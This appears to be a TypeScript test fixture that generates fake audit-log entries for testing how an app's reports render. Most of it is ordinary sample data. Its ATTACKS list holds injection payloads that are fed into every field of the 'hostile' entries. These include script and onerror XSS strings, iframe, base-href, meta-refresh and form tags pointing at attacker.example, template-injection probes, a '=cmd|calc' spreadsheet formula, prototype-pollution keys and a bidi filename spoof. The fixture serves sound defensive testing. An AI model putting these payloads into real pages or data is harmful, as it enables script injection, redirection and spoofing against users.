/** Entries of Invent's log for tests of reports, newest first. */

const ACTIONS = [
  'assistant.updated',
  'assistant.created',
  'assistant.deleted',
  'chat.deleted',
  'connection.created',
  'member.role_changed',
  'member.joined',
  'api_key.created',
  'org.updated',
  'login.failed',
];

/** As an export writes them. */
export function usualEntries(count: number): string {
  let text = '';
  for (let at = 0; at < count; at += 1) text += `${JSON.stringify(usualEntry(at))}\n`;
  return text;
}

const NEWEST = Date.parse('2026-10-31T20:00:00Z');

export function usualEntry(at: number) {
  const person = (at * 7919) % 400;
  const action = ACTIONS[(at * 31) % ACTIONS.length]!;
  return {
    id: `al_${String(at).padStart(22, '0')}`,
    action,
    source: 'app',
    ip: `198.51.100.${person % 250}`,
    country: ['US', 'DE', 'FR', 'GB', 'IN', 'BR'][person % 6],
    agent:
      'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36',
    created_at: new Date(NEWEST - at * 149_000).toISOString(),
    actor: { id: `usr_${person}`, name: `Person ${person}`, email: `person${person}@example.com` },
    org: { id: 'org_1', name: 'Lumen Harbor' },
    metadata: action.includes('role') ? { previous_role: 'viewer', new_role: 'admin' } : { changes: ['name', 'tone'] },
    assistant: { id: `as_${at % 900}`, name: `Assistant number ${at % 900}` },
  };
}

const BIDI = String.fromCodePoint(0x202e, 0x2066, 0x200b, 0x2028, 0x1b);

/** Texts that break pages that are careless. */
export const ATTACKS: readonly string[] = [
  '<script>window.pwned=1;alert(1)</script>',
  '</script><script>window.pwned=1</script>',
  '"><img src=x onerror="window.pwned=1">',
  "'><svg/onload=window.pwned=1>",
  '</style><style>body{display:none}</style>',
  '</title></head><body onload=alert(1)>',
  '<!--',
  '-->',
  '<![CDATA[',
  'javascript:window.pwned=1',
  '<iframe src="https://attacker.example/"></iframe>',
  '<link rel=stylesheet href=//attacker.example/x.css>',
  '<base href="https://attacker.example/">',
  '<meta http-equiv=refresh content="0;url=https://attacker.example">',
  '<form action=https://attacker.example><input name=a></form>',
  '\nEND EVENTS\n',
  '\nEND ROWS\n</script><script>window.pwned=1</script>',
  `${BIDI}gpj.exe`,
  `\u0000\u0007\u001b[2J\u009b31m`,
  `{{7*7}}$${'{7*7}'}<%= 7*7 %>\`window.pwned=1\``,
  '&lt;script&gt;&#60;script&#62;',
  `${'\u0301'.repeat(500)}zalgo`,
  '\ud800 lone \udfff',
  '=cmd|calc',
  '__proto__',
  'constructor',
  'w'.repeat(5000),
  'مرحبا שלום',
];

/** Entries whose every text is an attack; some are very long. */
export function hostileEntries(count: number): string {
  let text = '';
  for (let at = 0; at < count; at += 1) {
    const attack = (more: number) => ATTACKS[(at + more) % ATTACKS.length]!;
    const huge = at % 2500 === 7 ? 'x<b>'.repeat(250_000) : undefined;
    const entry = {
      id: `al_${at}${attack(0)}`,
      action: at % 3 === 0 ? `${attack(1)}.deleted` : at % 3 === 1 ? 'member.role_changed' : attack(2),
      source: attack(3),
      ip: attack(4),
      country: attack(5),
      agent: huge ?? attack(6),
      created_at: at % 50 === 3 ? attack(7) : new Date(NEWEST - at * 149_000).toISOString(),
      actor: { id: attack(8), name: huge ?? attack(9), email: attack(10) },
      org: { id: attack(11), name: attack(12) },
      metadata: { previous_role: attack(13), new_role: huge ?? attack(14), [attack(15)]: attack(16) },
      assistant: { id: attack(17), name: attack(18) },
    };
    text += `${JSON.stringify(entry)}\n`;
  }
  return text;
}
